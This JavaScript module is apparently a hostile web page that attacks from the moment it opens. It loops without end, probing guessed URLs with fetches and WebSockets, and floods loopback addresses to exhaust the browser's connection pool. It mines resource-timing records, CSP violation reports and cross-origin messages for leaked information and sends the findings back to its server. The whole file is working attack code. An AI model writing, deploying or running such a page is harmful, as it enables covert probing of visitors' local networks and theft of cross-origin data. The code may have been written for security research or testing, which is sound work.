// Attacks without a pause from the moment that the page is open, and tells its server.

import { GUESSES, isGuessed, isTarget } from "./guesses.js";
import { send, tell as report } from "./report.js";
import { WAYS } from "./ways.js";

const AT_ONCE = 64;
// What a record of the browser tells of the asking alone.
const OF_ASKING = [
  ...["name", "entryType", "initiatorType", "navigationId", "renderBlockingStatus"],
  ...["startTime", "fetchStart", "responseEnd", "duration"],
];

let round = 0;

function tell(what) {
  report(round, what);
}

function tellOfRecords() {
  for (const entry of performance.getEntriesByType("resource")) {
    if (isTarget(entry.name)) {
      const learned = Object.entries(entry.toJSON())
        .filter(([name, value]) => !OF_ASKING.includes(name) && value && value.length !== 0)
        .map(String);
      tell({ way: "a record", url: entry.name, learned });
    }
  }
  performance.clearResourceTimings();
}

function crowd() {
  return Array.from({ length: AT_ONCE }, (_, at) => {
    const url = GUESSES[at % GUESSES.length];
    return at % 2
      ? fetch(url, { mode: "no-cors", keepalive: true }).catch(() => {})
      : WAYS["a WebSocket"](url);
  });
}

async function attack() {
  const all = Object.entries(WAYS).map(async ([way, go], at) => {
    const url = GUESSES[(at + round) % GUESSES.length];
    const learned = await Promise.resolve()
      .then(() => go(url))
      .catch(() => []);
    tell({ way, url, learned });
  });
  await Promise.all([...all, ...crowd()]);
  tellOfRecords();
  await send();
  round += 1;
}

// Connections that this page's server keeps open: the browser allows six to each host.
function hang() {
  for (let host = 2; host <= 12; host += 1) {
    for (let each = 0; each < 6; each += 1) {
      // Each has an address of its own: the browser's cache would let them queue.
      const url = `http://127.0.0.${host}:${location.port}/hang?${origin}${each}`;
      fetch(url, { mode: "no-cors" }).catch(() => {});
    }
  }
}

addEventListener("securitypolicyviolation", (violation) => {
  // Where a redirect of theirs led to would be news.
  const url = violation.blockedURI.replace(/^ws:/, "http:");
  const isNews = url.startsWith("http:") && isTarget(url) && !isGuessed(url);
  tell({ way: "a violation", url, learned: isNews ? [url] : [] });
});
addEventListener("message", (message) => {
  if (message.source !== window) {
    tell({ way: "a message", url: message.origin, learned: [String(message.data)] });
  }
});

await navigator.serviceWorker.register("/service_worker.js").catch(() => {});
hang();
while (true) {
  await attack();
}
